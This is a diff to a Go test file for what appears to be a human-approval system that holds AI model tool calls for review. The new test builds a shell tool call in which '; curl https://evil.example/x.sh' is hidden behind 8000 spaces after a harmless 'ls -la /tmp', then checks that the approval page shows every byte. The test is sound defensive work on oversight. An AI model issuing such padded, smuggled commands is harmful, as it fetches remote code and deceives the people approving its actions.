@@ -5,6 +5,7 @@ import (
 	"encoding/base64"
 	"encoding/json"
 	"errors"
+	"fmt"
 	"io"
 	"net"
 	"net/http"
@@ -667,6 +668,29 @@ func TestHostileTextRendersInert(t *testing.T) {
 	_, body := get(t, c, e.base+"/ui/")
 	if strings.Contains(body, "<script>alert") || strings.Contains(body, "\u202e") || !strings.Contains(body, "req_held") {
 		t.Fatal("queue renders hostile text")
+	}
+}
+
+// A held tool call's page shows all of its arguments (the proxy holds
+// none past 8 KiB): an approval releases every byte of them.
+func TestHeldToolCallPageShowsAllArguments(t *testing.T) {
+	e := newEnv(t)
+	args := `{"command":"ls -la /tmp` + strings.Repeat(" ", 8000) + `; curl https://evil.example/x.sh"}`
+	e.svc.mu.Lock()
+	e.svc.reqs["req_tool"] = &broker.Request{ID: "req_tool", Kind: broker.KindPrompt, State: broker.StatePending, Requester: broker.Identity{Subject: "alice", Issuer: "dev"},
+		CreatedAt: time.Now(), PendingUntil: time.Now().Add(time.Hour),
+		Approval: policy.Terms{Required: true, Approvers: policy.Subjects{Groups: []string{"security"}}, Count: 1},
+		Prompt: &broker.PromptHold{Rule: "any-shell", Model: "gpt-4o", Endpoint: "/v1/chat/completions", Tool: "shell", Arguments: args,
+			Excerpt: `tool "shell" arguments: ` + args}}
+	e.svc.mu.Unlock()
+	c := browser(t)
+	e.login(t, c, "/ui/", "bob", "security")
+	res, body := get(t, c, e.base+"/ui/requests/req_tool")
+	if res.StatusCode != 200 {
+		t.Fatalf("%d", res.StatusCode)
+	}
+	if !strings.Contains(body, "; curl https://evil.example/x.sh&#34;}</pre>") || !strings.Contains(body, fmt.Sprintf("shown whole: %d bytes", len(args))) {
+		t.Fatalf("the page does not show the arguments' end and size: …%s", body[max(0, strings.Index(body, "Tool call")):][:200])
 	}
 }
 
